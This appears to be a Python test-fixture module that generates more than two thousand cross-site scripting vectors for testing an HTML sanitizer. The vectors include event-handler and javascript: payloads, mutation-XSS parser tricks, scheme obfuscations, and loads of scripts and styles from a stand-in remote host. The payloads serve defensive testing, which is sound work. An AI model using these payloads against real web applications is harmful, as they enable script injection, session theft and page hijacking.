"""What strangers write into HTML so that it acts, loads or covers: our own, put together from parts."""

from __future__ import annotations

from itertools import product

ACTS = "window.__pwned=1"
REMOTE = "http://tracker.invalid/x"

BARE = (
    f"<script>{ACTS}</script>", f"<script src={REMOTE}.js></script>", f"<img src=x onerror={ACTS}>",
    f"<img src=x onerror={ACTS}//", f"<svg onload={ACTS}>", f"<svg><script>{ACTS}</script></svg>", f"<body onload={ACTS}>",
    f"<svg><animate onbegin={ACTS} attributeName=x dur=1s>", f"<details open ontoggle={ACTS}>x</details>",
    f"<video autoplay onloadstart={ACTS}><source src=x></video>", f"<audio src=x onerror={ACTS}>",
    f"<input autofocus onfocus={ACTS}>", f"<select autofocus onfocus={ACTS}></select>", f"<marquee onstart={ACTS}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{ACTS}</script>'></iframe>", f"<iframe src='javascript:parent.{ACTS}'></iframe>",
    f"<object data='javascript:{ACTS}'></object>", f"<embed src='javascript:{ACTS}'>",
    f"<form><button formaction='javascript:{ACTS}'>x</button></form>", f"<meta http-equiv=refresh content='0;url={REMOTE}'>",
    f"<base href={REMOTE}>", f"<link rel=stylesheet href={REMOTE}.css>", f"<style>@import '{REMOTE}.css';</style>",
    f"<style>*{{background:url({REMOTE}.png)}}</style>", f"<img src={REMOTE}.gif>", f"<img srcset='{REMOTE}.gif 1x'>",
    f"<picture><source srcset={REMOTE}.gif><img></picture>", f"<video poster={REMOTE}.gif></video>",
    f"<table background={REMOTE}.gif><tr><td>x</table>", f"<div style='background:url({REMOTE}.gif)'>x</div>",
    f"<svg><image href={REMOTE}.svg /></svg>", f"<svg><use href='{REMOTE}.svg#a' /></svg>", f"<input type=image src={REMOTE}.gif>",
    f"<a href='javascript:{ACTS}' id=go>x</a>", f"<a href=x onclick={ACTS} autofocus onfocus={ACTS} tabindex=1>x</a>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ACTS}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={ACTS}>">', f'<svg></p><style><a id="</style><img src=1 onerror={ACTS}>">',
    f"<template><img src=x onerror={ACTS}></template>", f'<textarea><img title="</textarea><img src=x onerror={ACTS}>">',
    f'<xmp><p title="</xmp><svg onload={ACTS}>">', f'<title><img title="</title><img src=x onerror={ACTS}>"></title>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACTS}>",
    f"<!--><img src=x onerror={ACTS}>-->", f"<![CDATA[><img src=x onerror={ACTS}>]]>", f"<?xml ><img src=x onerror={ACTS}> ?>",
    f"<im<!-- -->g src=x onerror={ACTS}>", f"<img/src=x/onerror={ACTS}>", f'<img src="x`"onerror={ACTS}>',
    f'<a href="x""onmouseover={ACTS}>x</a>', f"<div style='width:expression({ACTS})'>x</div>", f"<keygen autofocus onfocus={ACTS}>",
    f"<portal src={REMOTE}></portal>", f"<isindex action='javascript:{ACTS}' type=image>", f"<bgsound src={REMOTE}.wav>",
    f"<frameset onload={ACTS}><frame src={REMOTE}></frameset>", f"<plaintext><img src=x onerror={ACTS}>",
)  # fmt: skip

AROUND = (
    "{}", "<div>{}</div>", "<p>words{}words", "<table><tr><td>{}</td></tr></table>", "<table>{}</table>", "<b><i>{}</b></i>",
    "<ul><li>{}", "<blockquote type=cite>{}</blockquote>", "<svg><foreignObject>{}</foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>", "<select><option>{}</select>",
    "<noembed>{}</noembed>", "<style>{}</style>", "<title>{}</title>", "<!--{}-->", "<a href='https://a.example'>{}</a>",
    "<x-y>{}</x-y>", '<p title="{}">x</p>', "<form>{}</form>", "<center>{}<hr>", "<font size=7>{}</font>", "<o:p>{}</o:p>", "<pre>\n{}</pre>", "{}{}",
)  # fmt: skip


def _cased(text: str) -> str:
    """The same with tags in capitals, as no list of forbidden words expects."""
    return (
        text.replace("<script", "<ScRiPt")
        .replace("<svg", "<SVG")
        .replace("<img", "<IMG")
        .replace("onerror", "oNeRrOr")
    )


VECTORS = tuple(
    dict.fromkeys(
        turn(around.replace("{}", bare)) for bare, around, turn in product(BARE, AROUND, (str, _cased))
    )
)
"""More than two thousand."""

TEXTS = tuple(
    f"{before}{what}{after}"
    for what in (*BARE, f"javascript:{ACTS}", f'https://a.example/"onmouseover={ACTS}//', f"https://a.example/'>{BARE[2]}", "&lt;b&gt;", "http://a.example\\@evil.example/")
    for before, after in (("", ""), ("see ", " now"), ("https://a.example/", ""), ("a\r\n", "\nb"))
)  # fmt: skip

HIDDEN_SCRIPTS = tuple(
    f"{before}{scheme}{after}:{ACTS}"
    for scheme in ("javascript", "JaVaScRiPt", "vbscript", "data", "java\tscript", "java\nscript", "java\x00script", "java\x03script", "&#106;avascript", "file", "blob", "about")
    for before in ("", " ", "\x01", "\u2028", "\u00a0", "\u200b", "\t", "\ufeff", "//", "\\")
    for after in ("", " ", "\u2028")
)  # fmt: skip
